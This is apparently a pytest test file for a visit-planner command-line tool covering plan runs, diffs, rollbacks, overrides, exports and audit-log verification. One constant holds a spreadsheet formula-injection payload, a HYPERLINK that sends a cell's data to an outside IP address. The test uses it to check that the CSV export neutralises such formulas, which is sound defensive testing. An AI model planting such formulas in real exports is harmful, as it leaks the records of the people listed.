"""``plan``, ``runs``, ``overrides``, ``audit`` and ``store`` as a planner types them."""

from __future__ import annotations

import dataclasses
import re
import sqlite3
from datetime import datetime, timedelta
from pathlib import Path

import polars as pl
import pytest
from rich.cells import cell_len

from tests.visit_planner.helpers import flat, too_wide
from visit_planner import clock
from visit_planner.cli.narrow_encoding import narrow
from visit_planner.paths import Workspace
from visit_planner.risk_corrections import read_corrections
from visit_planner.store import Store, store_url
from visit_planner.vocabulary import PLAN_STAGES, plan_stage_key


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace with a champion model and one month of data (scale 0.003)."""
    from risk_model import TrainConfig
    from visit_planner.risk_job import promote_version, train_from_file
    from visit_planner.synthetic import generate, write_prefecture

    root = tmp_path_factory.mktemp("cli_runs")
    write_prefecture(generate(scale=0.003, seed=2), root / "data")
    train_from_file(root / "data", home=root / "ws", config=TrainConfig(params={"max_iter": 30}))
    promote_version(1, root / "data", home=root / "ws")
    return root


def test_plan_then_runs_commands(ws: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    home = ["--home", str(ws / "ws")]
    data = ["--data", str(ws / "data"), "--workers-processes", "1"]
    code, out, err = cli("plan", "--month", "2026-11", *data, *home)
    assert code in (0, 3), err
    # Its stages, as the benchmarks read them (plan_stage_key), and its summary Chinese first.
    stages = [m[1] for m in re.finditer(r"✓ +[\d.]+ s  (.+)", out)]
    assert stages[:2] == ["校验 / validate", "督导调整 / overrides"], out
    assert [plan_stage_key(s) for s in stages] == list(PLAN_STAGES)
    assert "计划 plan 2026-11" in out and "方案哈希 plan hash " in out
    assert re.search(r"路途 travel [\d,]+ h/month; 差距 gap ", out), out
    # Warnings and summary read at 80 columns (the run's own path aside); overrides' outcomes
    # and the run's kind in both languages.
    assert too_wide(err, 80) == [] and [x for x in too_wide(out) if "文件 files" not in x] == []
    assert "已生效 applied" in out and "(编制 plan)" in out
    assert re.search(r"已发布 published: 方案 run [0-9a-f]{12} = 2026-11 v1", out), out
    assert "Traceback" not in out + err
    code, out, _ = cli("plan", "--month", "2026-11", *data, *home)
    assert code in (0, 3)
    code, out, _ = cli("runs", "list", *home)
    assert code == 0 and "superseded" in out and "current" in out
    assert "已被取代" in out and "当前" in out and "编制" in out  # both languages
    with Store.open(store_url(Workspace(ws / "ws"))) as s:
        v1, v2 = sorted(s.list_runs("2026-11"), key=lambda r: r.version)
    code, out, _ = cli("runs", "show", v2.run_id[:8], *home)
    assert code == 0 and "文件 files 校验一致 verified" in out and "sha256" in out
    assert f"方案 run {v2.run_id}  2026-11 v2 (编制 plan, 当前 current)" in out
    status = v2.metrics["status"]
    assert f"求解状态 status {dict(optimal='最优', feasible='可行')[status]} {status}" in out
    # Created at, in Beijing time (UTC+8) with its label in both languages, never UTC.
    beijing = (v2.created_at + timedelta(hours=8)).strftime("%Y-%m-%d %H:%M")
    assert f"创建 created {beijing} (北京时间 Beijing time) 操作人 by" in flat(out)
    assert "UTC" not in out
    code, out, _ = cli("runs", "diff", v1.run_id[:8], v2.run_id[:8], *home)
    assert code == 0 and "worker changed: 0 / " in flat(out)  # same inputs, same plan
    assert "(两个版本都有的农户 households in both versions)" in flat(out)  # Chinese first
    assert "两月" not in out  # one month's runs
    assert "换人率 churn: 0.00% (类别未变 tier unchanged)" in out  # the glossary's words
    assert "tier-1 uncovered" in flat(out) and "unc." not in out and "chg." not in out
    assert "各乡镇均无变化 / no township changed" in out and "┃" not in out  # no empty table
    assert too_wide(out, 80) == []  # the totals wrapped at spaces (one ran past 80 columns)
    assert "比较方向" not in out + err  # the earlier run first: no note
    # The later run first: compared all the same, with a note that it reads backwards.
    code, out, err = cli("runs", "diff", v2.run_id[:8], v1.run_id[:8], *home)
    assert code == 0 and "2026-11 v2 → 2026-11 v1" in out, err
    assert "提示 note: 比较方向: 较新 → 较旧 (direction: newer → older: A 2026-11 v2 is later " \
        "than B 2026-11 v1" in flat(err) and too_wide(err, 80) == []  # fmt: skip
    # The per-township table into a new directory, with the townships' names, BOM for Excel.
    table = tmp_path / "new" / "diff.csv"
    code, out, err = cli("runs", "diff", v1.run_id[:8], v2.run_id[:8], "--out", str(table), *home)
    assert code == 0 and f"已输出 wrote {table}" in flat(out), err
    assert table.read_bytes().startswith(b"\xef\xbb\xbf")
    diff = pl.read_csv(table, schema_overrides={"township_id": pl.String})
    assert diff.columns[:2] == ["township_id", "township_name"] and diff.height > 0
    code, out, _ = cli(
        "runs", "rollback", "--month", "2026-11", "--to", v1.run_id[:8], "--reason", "test", *home
    )
    assert code == 0 and v1.run_id[:12] in out
    code, out, _ = cli("runs", "list", *home)
    assert code == 0 and "rolled_back" in out and "已回滚" in out
    # Who published a run is its 操作人 (人员 is a worker); tier-1 uncovered in its one wording.
    assert "操作人" in out and "人员" not in out and "short" not in out
    assert "tier-1" in out and "uncovered" in out and "一类户" in out and "未覆盖" in out
    assert v1.run_id[:12] in out and v2.run_id[:12] in out  # ids never cut at 80 columns
    sheets = tmp_path / "sheets"
    code, out, err = cli(
        "runs", "export", "current", "--month", "2026-11", "--out", str(sheets), *home
    )
    assert code == 0, err
    assert (sheets / "visit_lists.csv").is_file() and any((sheets / "sheets").iterdir())
    unassigned = pl.read_csv(sheets / "unassigned.csv")
    assert f"未分配 unassigned: {unassigned.height:,}" in flat(out)  # named in the files it lists
    # Chinese first, each word with its English (it read 'wrote 输出 N sheets 清单 …').
    assert re.match(r"已输出 wrote [\d,]+ 份清单 sheets, [\d,]+ 户 households\n", out), out
    assert f"方案 run: {v1.run_id[:12]} = 2026-11 v1" in out  # the month's current (rolled back)
    assert f"目录 into {sheets}" in flat(out)
    assert "unassigned.csv" in out and "unassigned.html" in out
    assert (sheets / "visit_lists.xlsx").is_file() and "open visit_lists.xlsx" in flat(out)
    # Every line within 80 columns but the output folder's, which cannot be broken (a path
    # of 77 characters under pytest-xdist: 81 columns with its indent).
    assert [x for x in too_wide(out, 80) if x.strip() != str(sheets)] == []
    export = ("runs", "export", "current", "--month", "2026-11", "--out")
    code, _, err = cli(*export, str(sheets), *home)
    assert code == 2 and "not empty" in flat(err) and "--overwrite" in err
    assert "Traceback" not in err
    code, _, err = cli(*export, str(sheets), "--overwrite", *home)
    assert code == 0, err
    afile = tmp_path / "afile"
    afile.write_text("x", "utf-8")
    code, _, err = cli(*export, str(afile), *home)
    assert code == 2 and "is a file, not a directory" in flat(err) and "Traceback" not in err
    code, _, err = cli("runs", "export", "current", "--out", str(tmp_path / "n"), *home)
    assert code == 2 and "--month" in err and "需指定" in err
    # A run id with another month's --month: the month was ignored, the run's lists written.
    code, _, err = cli(
        "runs", "export", v1.run_id[:8], "--month", "2026-12", "--out", str(tmp_path / "m"), *home
    )
    assert code == 2 and "Traceback" not in err and not (tmp_path / "m").exists()
    assert (
        f"方案 {v1.run_id[:12]} 是 2026-11 的方案, 不是 2026-12 的 (run {v1.run_id[:12]} is of "
        "2026-11, not of --month 2026-12; for the current run of 2026-12: runs export current "
        "--month 2026-12)" in flat(err)
    )
    code, out, _ = cli("audit", "verify", *home)
    assert code == 0 and "intact" in out
    code, out, _ = cli("audit", "list", *home)
    assert code == 0 and "rollback" in out and "publish" in out
    assert "Beijing time" in out and "北京时间" in out and "UTC" not in out
    with Store.open(store_url(Workspace(ws / "ws"))) as s:
        last = s.audit_entries()[-1]
    assert (last.at + timedelta(hours=8)).strftime("%Y-%m-%d %H:%M:%S") in out
    # A run id is whole on a line of its own, to be copied: never folded, never cut.
    assert "…" not in out and "操作" in out
    assert "by" in out and "操作人" in out and "人员" not in out and "actor" not in out
    lines = [line.strip() for line in out.splitlines()]
    assert v1.run_id in lines and v2.run_id in lines
    assert too_wide(out, 80) == []


def test_bad_overrides_are_refused_at_add(ws: Path, cli) -> None:  # type: ignore[no-untyped-def]
    home = ["--home", str(ws / "ws"), "--data", str(ws / "data")]
    hh = pl.read_parquet(ws / "data" / "households.parquet")
    workers = pl.read_parquet(ws / "data" / "workers.parquet")
    h = hh["household_id"][0]
    own_tw = hh["township_id"][0]
    other = workers.filter((pl.col("township_id") != own_tw) & pl.col("active"))["worker_id"][0]
    cases = [
        (["--kind", "tier", "--household", "H_NOPE", "--tier", "1"], "H_NOPE"),
        (["--kind", "pin", "--household", h, "--worker", "W_NOPE"], "W_NOPE"),
        (["--kind", "pin", "--household", h, "--worker", other], "may not serve"),
        (["--kind", "tier", "--household", h, "--tier", "1", "--expires", "2001-01-01"], "past"),
        (["--kind", "correction", "--household", h, "--field", "name", "--value", "x"], "name"),
        (["--kind", "correction", "--household", h, "--field", "members", "--value", "x"], "fit"),
        (["--kind", "tier", "--household", h, "--tier", "7"], "1, 2 or 3"),
        (["--kind", "colour", "--household", h], "colour"),
    ]
    for args, needle in cases:
        code, out, err = cli("overrides", "add", *args, "--reason", "test", *home)
        assert code == 2, (args, out)
        assert needle in err and "Traceback" not in err, (args, err)
    # Checked against the newest published run (no --data): a household not in it is refused
    # as an override, with what to do, not by the run directory's path. The module's first
    # test publishes one; run alone, this test publishes its own.
    only_home = ["--home", str(ws / "ws")]
    with Store.open(store_url(Workspace(ws / "ws"))) as store:
        published = bool(store.list_runs("2026-11"))
    if not published:
        data = ["--data", str(ws / "data"), "--workers-processes", "1"]
        code, _, err = cli("plan", "--month", "2026-11", *data, *only_home)
        assert code in (0, 3), err
    code, out, err = cli(
        "overrides", "add", "--kind", "tier", "--household", "H_NOPE", "--tier", "1",
        "--reason", "test", *only_home,
    )  # fmt: skip
    assert code == 2 and "Traceback" not in out + err
    assert "调整被拒绝 override refused (tier H_NOPE)" in flat(err)
    assert "household H_NOPE is not in the newest published run, 2026-11 v" in flat(err)
    assert "pass --data DIR" in flat(err) and str(ws / "ws" / "runs") not in flat(err)
    code, out, _ = cli(
        "overrides", "add", "--kind", "tier", "--household", h, "--tier", "1", "--reason", "ok",
        *home,
    )  # fmt: skip
    assert code == 0 and "added" in out
    code, out, _ = cli("overrides", "list", "--home", str(ws / "ws"))
    assert code == 0 and h in out
    # One block per override: the tier in its one wording, ids and reason whole, both
    # languages, every line within 80 columns.
    assert (
        f"{h} → 一类户 tier 1" in out
        and "类别调整 tier" in flat(out)
        and "有效 active" in flat(out)
    )
    assert "reason 原因: ok" in flat(out) and "…" not in out
    assert "by 操作人 " in out and "人员" not in out
    assert all(cell_len(line) <= 80 for line in out.splitlines()), out


def test_audit_verify_names_an_edited_entry(ws: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    import shutil

    home = ["--home", str(ws / "ws")]
    code, _, _ = cli(
        "overrides", "add", "--kind", "tier", "--household",
        pl.read_parquet(ws / "data" / "households.parquet")["household_id"][1],
        "--tier", "2", "--reason", "x", "--data", str(ws / "data"), *home,
    )  # fmt: skip
    assert code == 0
    db = tmp_path / "store.db"  # tamper with a copy: the module's workspace stays intact
    shutil.copyfile(ws / "ws" / "store.db", db)
    with sqlite3.connect(db) as conn:
        seq = conn.execute("SELECT min(seq) FROM audit").fetchone()[0]
        conn.execute("UPDATE audit SET actor = 'someone-else' WHERE seq = ?", (seq,))
    code, _, err = cli("audit", "verify", *home, "--store-url", f"sqlite:///{db}")
    assert code == 4 and str(seq) in err and "Traceback" not in err


def test_store_upgrade_reports_the_schema(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    code, out, err = cli("store", "upgrade", "--home", str(tmp_path / "fresh"))
    assert code == 0, err
    assert "→" in out
    assert f"数据库 store: {tmp_path / 'fresh' / 'store.db'}\n" in out  # which database


def test_store_upgrade_of_a_store_elsewhere_makes_no_workspace(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    """With --store-url, an empty workspace directory was made (./workspace by default) and
    the output did not say which database was upgraded."""
    db = tmp_path / "shared" / "store.db"
    db.parent.mkdir()
    code, out, err = cli(
        "store", "upgrade", "--home", str(tmp_path / "ws"), "--store-url", f"sqlite:///{db}"
    )
    assert code == 0, err
    assert f"数据库 store: {db}\n" in out and db.exists()
    assert not (tmp_path / "ws").exists()


def test_promotions_are_in_the_audit_log(ws: Path, cli) -> None:  # type: ignore[no-untyped-def]
    home = ["--home", str(ws / "ws")]
    with Store.open(store_url(Workspace(ws / "ws"))) as store:
        before = [e for e in store.audit_entries() if e.action.startswith("promote")]
    assert len(before) == 1  # the fixture's promotion of v1
    assert before[-1].subject == "household-risk v1"
    # Promoting the champion again changes nothing, so it records nothing.
    code, out, err = cli(
        "promote", "--version", "1", "--data", str(ws / "data"), "--force", "--reason", "review",
        *home,
    )  # fmt: skip
    assert code == 0, err
    assert "already the champion" in flat(out) and "now the champion" not in flat(out)
    with Store.open(store_url(Workspace(ws / "ws"))) as store:
        after = [e for e in store.audit_entries() if e.action.startswith("promote")]
    assert after == before


EVIDENCE = '=HYPERLINK("http://198.51.100.9/?d="&A2,"photo 12")'


def test_corrections_are_exported_for_training(ws: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    home = ["--home", str(ws / "ws")]
    hh = pl.read_parquet(ws / "data" / "households.parquet")
    h = hh["household_id"][3]
    code, _, err = cli(
        "overrides", "add", "--kind", "correction", "--household", h, "--field",
        "hazard_exposure", "--value", "flood", "--evidence", EVIDENCE, "--reason", "-flooded",
        "--data", str(ws / "data"), *home,
    )  # fmt: skip
    assert code == 0, err
    out_file = tmp_path / "corrections.csv"
    code, _, err = cli("overrides", "export-corrections", "--out", str(out_file), *home)
    assert code == 0, err
    rows = pl.read_csv(out_file).filter(pl.col("household_id") == h)
    # A supervisor's text that Excel or WPS would run as a formula (a link sending the row
    # away when clicked) is marked ' and opens as text; it was written as typed.
    assert rows.select("field", "value", "evidence", "reason").row(0) == (
        "hazard_exposure",
        "flood",
        f"'{EVIDENCE}",
        "'-flooded",
    )
    assert not any(
        cell.startswith(("=", "+", "-", "@"))
        for line in out_file.read_text(encoding="utf-8-sig").splitlines()
        for cell in line.split(",")
    )
    # With its status and expiry, and read back as train --corrections reads it.
    assert rows.select("status", "expires_on").row(0) == ("active", None)
    # When it was recorded, in Beijing time to the second with the offset written (was UTC
    # with microseconds: 2026-12-07T05:39:12.123456+00:00, 8 hours off what people saw).
    with Store.open(store_url(Workspace(ws / "ws"))) as store:
        (stored,) = [o for o in store.list_overrides() if o.household_id == h]
    written = rows["created_at"][0]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\+08:00", written), written
    assert written.startswith(clock.shown(stored.created_at, seconds=True))
    assert datetime.fromisoformat(written) == clock.as_utc(stored.created_at).replace(microsecond=0)
    active, _ = read_corrections(out_file)
    assert [(o.field, o.value) for o in active if o.household_id == h] == [
        ("hazard_exposure", "flood")
    ]


def test_table_outputs_are_checked_and_never_a_traceback(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    """``overrides export-corrections --out`` into a missing directory or onto a directory,
    and ``runs diff --out`` with another suffix, ended in polars' traceback (or, for diff,
    wrote CSV text under any name): now the directory is made, a directory or suffix is
    refused before any work, in both languages, exit 2."""
    home = ["--home", str(tmp_path / "ws")]
    assert cli("store", "upgrade", *home)[0] == 0
    nested = tmp_path / "not" / "yet" / "corrections.csv"
    code, out, err = cli("overrides", "export-corrections", "--out", str(nested), *home)
    assert code == 0, err
    assert f"文件 to {nested}" in flat(out) and "目录" not in out
    assert str(nested) in out.split()  # the path whole on its line, never folded
    assert nested.read_bytes().startswith(b"\xef\xbb\xbf") and pl.read_csv(nested).height == 0
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    code, out, err = cli("overrides", "export-corrections", "--out", str(folder), *home)
    assert code == 2 and "Traceback" not in out + err
    assert "输出路径是目录 (is a directory; give a file name)" in flat(err)
    code, out, err = cli(
        "runs", "diff", "abcdef", "123456", "--out", str(tmp_path / "d.txt"), *home
    )
    assert code == 2 and "Traceback" not in out + err
    assert "use a .csv or .parquet file name" in flat(err) and "输出文件须为" in err
    assert not (tmp_path / "d.txt").exists()


def test_runs_diff_names_the_townships_its_table_leaves_out() -> None:
    """The table stopped at the first 30 changed townships by code, saying nothing of the
    rest (a prefecture has 104): now the most changed, in township order, and a count."""
    from visit_planner.cli.runs import diff_rows
    from visit_planner.runs.diff import DIFF_COLUMNS

    n = 5
    diff = pl.DataFrame(
        {column: [0] * n for column in DIFF_COLUMNS if column != "township_id"}
    ).with_columns(
        township_id=pl.Series([f"53260100{i}" for i in range(n)]),
        worker_changed=pl.Series([3, 0, 9, 1, 5]),
        uncovered_tier1_b=pl.Series([0, 2, 0, 0, 0]),  # 532601001: only tier-1 uncovered moved
    )
    shown, more = diff_rows(diff, limit=3)
    assert shown["township_id"].to_list() == ["532601000", "532601002", "532601004"]
    assert more == 2
    shown, more = diff_rows(diff)
    assert shown.height == 5 and more == 0
    assert (
        diff_rows(
            diff.filter(pl.col("worker_changed") == 0).with_columns(uncovered_tier1_b=pl.lit(0))
        )[0].height
        == 0
    )


def test_runs_show_names_each_override_by_what_it_does() -> None:
    """``runs show`` listed '督导调整 override #1: 已生效 applied': which household, which kind,
    was to be looked up elsewhere."""
    from datetime import UTC, datetime

    from visit_planner.cli.runs import outcome_line
    from visit_planner.store import OutcomeRow, OverrideRow

    tier = OverrideRow(
        id=1, kind="tier", household_id="H0000001", worker_id=None, tier=1, field=None,
        value=None, evidence=None, author="sup1", reason="独居老人", created_at=datetime.now(UTC),
        expires_on=None, status="active", revoked_by=None, revoked_at=None, revoke_reason=None,
    )  # fmt: skip
    applied = OutcomeRow(1, "r" * 32, "applied", "")
    assert outcome_line(applied, tier) == (
        "督导调整 override #1 (类别调整 tier H0000001 → 一类户 tier 1): 已生效 applied"
    )
    pin = dataclasses.replace(tier, id=2, kind="pin", tier=None, worker_id="W000188")
    gone = OutcomeRow(2, "r" * 32, "not_applied", "worker W000188 left")
    assert outcome_line(gone, pin) == (
        "督导调整 override #2 (指定人员 pin H0000001 → W000188): 未生效 not applied worker "
        "W000188 left"
    )
    assert outcome_line(applied, None) == "督导调整 override #1: 已生效 applied"


def test_overrides_add_refuses_a_bad_kind_or_date_in_both_languages(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    """'bogus': use one of … and '2020-13-01' is not YYYY-MM-DD were English only."""
    base = ("overrides", "add", "--household", "H1", "--reason", "x", "--home", str(tmp_path))
    code, out, err = cli(*base, "--kind", "bogus")
    assert code == 2 and "Traceback" not in out + err
    assert "'bogus': 调整类型无效 (use one of tier, pin, forbid, correction)" in flat(err)
    code, out, err = cli(*base, "--kind", "tier", "--tier", "1", "--expires", "2020-13-01")
    assert code == 2 and "Traceback" not in out + err
    assert "'2020-13-01': 日期格式应为 YYYY-MM-DD (is not a date YYYY-MM-DD)" in flat(err)


def test_runs_diff_refuses_a_run_against_itself_and_notes_a_backward_one(
    tmp_path: Path,
    cli,  # type: ignore[no-untyped-def]
) -> None:
    """'runs diff X X' compared a run with itself and said 'no township changed', and a later
    run given first was compared silently: the same run (by any prefix) is refused, exit 2,
    Chinese first; a later run first is compared with a note (the command test above)."""
    from tests.visit_planner.store.helpers import publish
    from visit_planner.cli.runs import diff_direction

    home = ["--home", str(tmp_path / "ws")]
    assert cli("store", "upgrade", *home)[0] == 0
    with Store.open(store_url(Workspace(tmp_path / "ws"))) as s:
        nov = publish(s, "2026-11")
        dec1, dec2 = publish(s, "2026-12"), publish(s, "2026-12")
    code, out, err = cli("runs", "diff", nov.run_id[:8], nov.run_id, *home)
    assert code == 2 and out == "" and "Traceback" not in err
    assert flat(err) == (
        f"错误 ERROR: 两个参数是同一方案, 无可比较 (runs diff: A and B are the same run "
        f"{nov.run_id[:12]} = 2026-11 v1; give two different runs, the earlier first)"
    )
    assert diff_direction(nov, dec1) is None and diff_direction(dec1, dec2) is None
    assert diff_direction(dec2, dec1) == (
        "比较方向: 较新 → 较旧 (direction: newer → older: A 2026-12 v2 is later than B "
        "2026-12 v1, so every change below reads backwards in time; give the earlier run "
        "first to read it forwards)"
    )
    note = diff_direction(dec1, nov)  # a later month first, whatever the version
    assert note is not None and "A 2026-12 v1 is later than B 2026-11 v1" in note


def test_a_run_whose_files_are_not_in_the_workspace_is_named_with_what_to_do(
    tmp_path: Path,
    cli,  # type: ignore[no-untyped-def]
) -> None:
    """A store shared by URL, read with a --home that is not the workspace its runs were
    planned in: runs show/diff/export said 'not a run directory: no manifest.json; pass the
    --out directory of visit-planner assign', though no directory was passed. They now name
    the run, the workspace and --home; a run directory without its manifest is named too."""
    from tests.visit_planner.store.helpers import publish

    home = ["--home", str(tmp_path / "ws")]
    assert cli("store", "upgrade", *home)[0] == 0
    with Store.open(store_url(Workspace(tmp_path / "ws"))) as s:
        nov, dec = publish(s, "2026-11"), publish(s, "2026-12")
    missing = (
        f"错误 ERROR: 方案 2026-11 v1 ({nov.run_id[:12]}) 的文件不在工作目录 {tmp_path / 'ws'} "
        f"中, 请用 --home 指定编制该方案的工作目录 (run 2026-11 v1 ({nov.run_id[:12]}) is in "
        f"the store, but its files are not in the workspace {tmp_path / 'ws'}: "
        f"{tmp_path / 'ws' / nov.path} does not exist; give --home or VISIT_PLANNER_HOME the "
        "workspace the run was planned in)"
    )
    for args in (
        ["runs", "show", nov.run_id[:8]],
        ["runs", "diff", nov.run_id[:8], dec.run_id[:8]],
        ["runs", "export", nov.run_id[:8], "--out", str(tmp_path / "lists")],
    ):
        code, out, err = cli(*args, *home)
        assert (code, out) == (2, ""), (args, err)
        assert flat(err) == missing, args
    assert not (tmp_path / "lists").exists()
    (tmp_path / "ws" / nov.path).mkdir(parents=True)
    code, _, err = cli("runs", "show", nov.run_id[:8], *home)
    assert code == 2 and flat(err) == (
        f"错误 ERROR: 方案 2026-11 v1 ({nov.run_id[:12]}) 缺少 manifest.json, 文件已被改动, "
        f"请从备份恢复工作目录 (run 2026-11 v1 ({nov.run_id[:12]}) has no manifest.json in "
        f"{tmp_path / 'ws' / nov.path}: its files were changed or removed, and a published run "
        "never changes; restore the workspace from its backup: docs/deployment.md, section 6)"
    )


def test_a_rollback_notes_a_next_month_that_follows_another_run(
    tmp_path: Path,
    cli,  # type: ignore[no-untyped-def]
) -> None:
    """December rolled back after January was planned from a later December version: January
    still continues that version (its kept_previous marks and churn), which the rollback did
    not say; now a note names both runs and says to plan January again. A rollback to the
    run January continues says nothing more."""
    from tests.visit_planner.runs.helpers import published

    root = tmp_path / "ws"
    home = ["--home", str(root)]
    assert cli("store", "upgrade", *home)[0] == 0
    with Store.open(store_url(Workspace(root))) as s:
        dec1 = published(s, root, "2026-12")
        dec2 = published(s, root, "2026-12")
        dec3 = published(s, root, "2026-12")
        jan = published(s, root, "2027-01", previous=dec3)
    rollback = ("runs", "rollback", "--month", "2026-12", "--reason", "wrong data", *home)
    code, out, err = cli(*rollback, "--to", dec2.run_id[:8])
    assert code == 0, err
    assert out.startswith(f"当前 current: {dec2.run_id[:12]} = 2026-12 v2\n")
    assert flat(err) == (
        f"提示 note: 下月当前方案 2027-01 v1 ({jan.run_id[:12]}) 延续的是 2026-12 v3 "
        f"({dec3.run_id[:12]}); 2026-12 现在的当前方案是 2026-12 v2, 如需下月延续它, "
        f"请重新编制 2027-01 (the next month's current run 2027-01 v1 ({jan.run_id[:12]}) "
        f"continues 2026-12 v3 ({dec3.run_id[:12]}), while 2026-12 v2 is now 2026-12's "
        "current run: 2027-01's kept_previous marks and churn are not against it; plan "
        "2027-01 again for it to continue 2026-12 v2)"
    )
    assert too_wide(err, 80) == []
    with Store.open(store_url(Workspace(root))) as s:
        jan2 = published(s, root, "2027-01", previous=dec2)  # January planned again
    code, out, err = cli(*rollback, "--to", dec1.run_id[:8])
    text = flat(err)
    assert code == 0 and f"延续的是 2026-12 v2 ({dec2.run_id[:12]})" in text, err
    assert text.startswith(f"提示 note: 下月当前方案 2027-01 v2 ({jan2.run_id[:12]}) ")
    with Store.open(store_url(Workspace(root))) as s:
        published(s, root, "2027-01", previous=dec1)
        dec4 = published(s, root, "2026-12")
    code, out, err = cli(*rollback, "--to", dec1.run_id[:8])
    assert code == 0 and err == "", err  # January continues v1: nothing to note
    assert dec4.version == 4


def test_an_expiry_is_checked_against_wenshans_date_not_the_machines(
    ws: Path,
    cli,  # type: ignore[no-untyped-def]
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """'overrides add --expires' was checked against the machine's date: on a server kept in
    UTC, before 08:00 in Wenshan, an expiry of Wenshan's yesterday was accepted as not yet
    past (and refused by the same command on a machine set to China time). The machine here
    is twelve hours behind UTC, where its date is Wenshan's yesterday 20 hours a day."""
    import time

    from visit_planner import clock

    monkeypatch.setenv("TZ", "Etc/GMT+12")  # POSIX sign: UTC-12
    time.tzset()
    try:
        h = pl.read_parquet(ws / "data" / "households.parquet")["household_id"][0]
        add = (
            "overrides", "add", "--kind", "tier", "--household", h, "--tier", "1",
            "--reason", "test", "--home", str(tmp_path), "--data", str(ws / "data"),
        )  # fmt: skip
        yesterday = clock.today() - timedelta(days=1)
        code, out, err = cli(*add, "--expires", yesterday.isoformat())
        assert code == 2 and out == "", out
        assert f"到期日 {yesterday} 已过 / expiry {yesterday} is in the past" in flat(err)
        code, out, err = cli(*add, "--expires", clock.today().isoformat())
        assert code == 0 and "已新增 added" in out, err
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()


def test_a_month_without_runs_is_not_said_to_be_an_empty_store(
    tmp_path: Path,
    cli,  # type: ignore[no-untyped-def]
) -> None:
    """'runs list --month 2027-03' said 'no runs yet' beside runs of four other months, and
    'runs export current --month 2027-03' '本月尚无方案' (this month has none): now the month
    is named, with the months that have runs."""
    from tests.visit_planner.store.helpers import publish

    root = tmp_path / "ws"
    home = ["--home", str(root)]
    assert cli("store", "upgrade", *home)[0] == 0
    assert cli("runs", "list", *home)[1].strip() == "尚无方案 / no runs yet"
    with Store.open(store_url(Workspace(root))) as s:
        for month in ("2026-11", "2026-12", "2027-01", "2027-02"):
            publish(s, month)
    code, out, err = cli("runs", "list", "--month", "2027-03", *home)
    assert code == 0, err
    assert flat(out) == (
        "2027-03 尚无方案 / no runs of 2027-03 (已有方案的月份 months with runs: 2026-11, "
        "2026-12, 2027-01, 2027-02)"
    )
    assert too_wide(out) == []
    code, out, err = cli(
        "runs", "export", "current", "--month", "2027-03", "--out", str(tmp_path / "x"), *home
    )
    assert code == 2 and out == "" and not (tmp_path / "x").exists()
    assert flat(err) == "错误 ERROR: 月份 2027-03 尚无当前方案 (month 2027-03 has no current run)"
    assert narrow(flat(err), "ascii") == "ERROR: month 2027-03 has no current run"


def test_runs_diff_takes_a_month_for_its_current_run(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    """A planner comparing two months types 'runs diff 2026-11 2026-12' and was told "no run
    '2026-11'": only run ids were taken. A month YYYY-MM now names its current run; a month
    without one, or not a month, is refused in both languages (English alone without
    Chinese), exit 2."""
    from tests.visit_planner.store.helpers import publish

    home = ["--home", str(tmp_path / "ws")]
    assert cli("store", "upgrade", *home)[0] == 0
    with Store.open(store_url(Workspace(tmp_path / "ws"))) as s:
        publish(s, "2026-11")
        publish(s, "2026-12")
        dec2 = publish(s, "2026-12")  # the current run of 2026-12
    code, out, err = cli("runs", "diff", "2026-12", dec2.run_id[:8], *home)
    assert code == 2 and out == "", err
    assert f"A and B are the same run {dec2.run_id[:12]} = 2026-12 v2" in flat(err)
    code, out, err = cli("runs", "diff", "2026-11", "2027-01", *home)
    assert code == 2 and out == "" and "Traceback" not in err
    assert flat(err) == "错误 ERROR: 月份 2027-01 尚无当前方案 (month 2027-01 has no current run)"
    code, _, err = cli("runs", "diff", "2026-13", "2026-12", *home)
    assert code == 2 and "(month '2026-13' is not of the form YYYY-MM" in flat(err), err


def test_an_imports_ids_are_printed_as_a_span() -> None:
    """overrides import of 1,500 rows printed 1,500 ids."""
    from visit_planner.cli.runs import id_span

    assert id_span(list(range(7, 1507))) == "#7–#1506"
    assert id_span([3, 4]) == "#3, #4"
    assert id_span([3, 5, 6]) == "#3, #5, #6"  # not consecutive: each named
